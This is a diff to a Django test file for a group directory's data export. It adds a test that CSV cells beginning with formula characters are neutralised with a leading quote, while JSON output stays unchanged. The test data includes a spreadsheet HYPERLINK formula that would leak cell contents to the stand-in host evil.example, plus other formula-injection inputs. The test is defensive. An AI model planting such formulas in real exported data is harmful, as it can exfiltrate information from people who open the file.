@@ -6,7 +6,7 @@ import pytest
 from django.utils import timezone
 
 from directory.models import Group
-from tests.factories import make_group
+from tests.factories import make_group, make_organisation
 
 pytestmark = pytest.mark.django_db
 
@@ -58,3 +58,25 @@ def test_csv_export(client, reference):
     assert len(rows) == 1
     assert rows[0]["city_refnis"] == "21004"
     assert rows[0]["fees"] == "free"
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_guarded(client, reference, hostile):
+    make_group(
+        name_en=hostile,
+        summary_en=hostile,
+        schedule_note_en=hostile,
+        registration_email="=1+2@example.be",
+        organisation=make_organisation(name=hostile),
+    )
+    response = client.get("/en/groups/data.csv")
+    row = next(csv.DictReader(io.StringIO(response.content.decode())))
+    for column in ("name", "description", "organization_name", "schedule_description"):
+        assert row[column] == f"'{hostile}", column
+    assert row["email"] == "'=1+2@example.be"
+    # The JSON is data, not a spreadsheet: the same text, unguarded.
+    record = client.get("/en/groups/data.json").json()["contents"][0]
+    assert record["name"] == hostile
